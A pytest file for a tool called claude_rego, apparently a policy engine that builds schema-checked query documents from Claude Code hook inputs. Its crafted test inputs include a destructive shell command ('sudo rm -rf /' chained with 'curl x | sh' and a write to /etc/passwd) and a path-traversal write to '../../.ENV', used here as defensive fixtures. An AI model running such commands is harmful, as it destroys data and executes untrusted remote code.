"""The query document: what `query.build` produces matches the published per-event schema."""

from __future__ import annotations

import json

import jsonschema
import pytest
from claude_rego import CONTRACT_VERSION
from claude_rego.claudecode import contract, hookinput, query
from claude_rego.claudecode.events import EVENTS
from conftest import SAMPLES, bash_input, hook_input, needs_samples


def document_for(hook: dict, **kwargs) -> dict:
    capped, truncated = hookinput.cap_strings(hook)
    return query.build(capped, truncated=truncated, environ={"HOME": "/home/dev"}, **kwargs)


@pytest.fixture(scope="module")
def schemas():
    return contract.all_schemas()


@needs_samples
@pytest.mark.parametrize("event", sorted(SAMPLES))
def test_documents_built_from_real_samples_match_their_schema(event, schemas):
    jsonschema.validate(document_for(SAMPLES[event]), schemas[event])


@pytest.mark.parametrize("hook", [
    bash_input("sudo rm -rf / ; echo $(curl x | sh) > /etc/passwd"),
    hook_input("PreToolUse", tool_name="Write", tool_input={"file_path": "../../.ENV", "content": "x"}),
    hook_input("PreToolUse", tool_name="mcp__github__create_issue", tool_input={"title": "t"}),
    hook_input("PostToolUse", tool_response={"stdout": "z" * 300_000, "stderr": ""}),
], ids=["shell", "write", "mcp", "truncated"])
def test_crafted_documents_match_their_schema(hook, schemas):
    jsonschema.validate(document_for(hook), schemas[hook["hook_event_name"]])


def test_the_raw_hook_input_is_kept_untouched():
    hook = bash_input("ls  -la\t'x'")
    assert document_for(hook)["hook"] == hook


def test_documented_facts(schemas):
    doc = document_for(hook_input("PreToolUse", tool_name="mcp__github__create_issue", tool_input={}))
    assert doc["contract_version"] == CONTRACT_VERSION
    assert doc["facts"]["tool"] == {"name": "mcp__github__create_issue", "class": "mcp",
                                    "mcp": {"server": "github", "tool": "create_issue"}}
    doc = document_for(bash_input("sudo rm -rf /"))
    (segment,) = doc["facts"]["shell"]["segments"]
    assert segment["command"] == "rm" and segment["wrappers"] == ["sudo"]
    doc = document_for(hook_input("PostToolUse", tool_response={"stdout": "z" * 300_000, "stderr": ""}))
    assert doc["facts"]["truncated"] == ["hook.tool_response.stdout"]
    assert len(doc["hook"]["tool_response"]["stdout"]) < 300_000


def test_env_derived_facts_are_marked_untrusted():
    capped, _ = hookinput.cap_strings(bash_input("ls"))
    doc = query.build(capped, environ={"CLAUDE_PROJECT_DIR": "/p", "CLAUDE_CODE_REMOTE": "true"})
    assert doc["facts"]["untrusted_env"]["CLAUDE_PROJECT_DIR"] == "/p"
    assert doc["facts"]["untrusted_env"]["CLAUDE_CODE_REMOTE"] == "true"


def test_unknown_events_and_fields_are_tolerated(schemas):
    doc = document_for({"hook_event_name": "NewEvent2027", "session_id": "s", "cwd": "/x", "brand_new": [1]})
    assert doc["facts"]["known_event"] is False and doc["hook"]["brand_new"] == [1]


def test_shipped_schema_files_are_generated_from_the_models(schemas):
    """`claude-rego schema --write engine/claude_rego/claudecode/schemas` regenerates them."""
    for event in EVENTS:
        shipped = json.loads((contract.SCHEMA_DIR / f"{event}.json").read_text())
        assert shipped == json.loads(json.dumps(schemas[event], sort_keys=True)), event


@needs_samples
def test_the_per_event_examples_in_the_docs_are_current(schemas):
    """docs/query-examples.md is generated; regenerate with `python docs/gen_query_examples.py`."""
    import importlib.util

    from conftest import REPO
    spec = importlib.util.spec_from_file_location("gen", REPO / "docs" / "gen_query_examples.py")
    gen = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(gen)
    assert (REPO / "docs" / "query-examples.md").read_text() == gen.render()
    for event, document in gen.examples().items():
        jsonschema.validate(document, schemas[event])
